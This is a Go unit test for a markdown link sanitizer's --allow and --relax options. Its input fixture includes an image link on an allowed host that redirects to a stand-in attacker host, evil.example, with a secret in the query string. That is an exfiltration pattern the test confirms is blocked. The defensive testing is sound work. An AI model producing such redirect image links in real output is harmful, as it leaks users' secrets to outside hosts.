package main

import (
	"bytes"
	"context"
	"strings"
	"testing"
)

// TestSanitizeRelax: a URL on an allowed host that carries another host
// is neutralised unless the host is given with --relax.
func TestSanitizeRelax(t *testing.T) {
	in := "![a](https://docs.example.com/r?to=https://evil.example/?SECRET) [s](https://search.example.com/?q=https://evil.example/)\n"
	var out, errb bytes.Buffer
	code := Run(context.Background(), []string{"sanitize", "--allow", "docs.example.com", "--relax", "search.example.com"}, strings.NewReader(in), &out, &errb)
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, errb.String())
	}
	want := "![a](about:blank#blocked) [s](https://search.example.com/?q=https://evil.example/)\n"
	if out.String() != want {
		t.Errorf("got %q, want %q", out.String(), want)
	}
	out.Reset()
	if code := Run(context.Background(), []string{"sanitize", "--relax", "127.0.0.1"}, strings.NewReader(""), &out, &errb); code != exitUsage {
		t.Errorf("IP literal --relax: exit %d, want %d", code, exitUsage)
	}
}
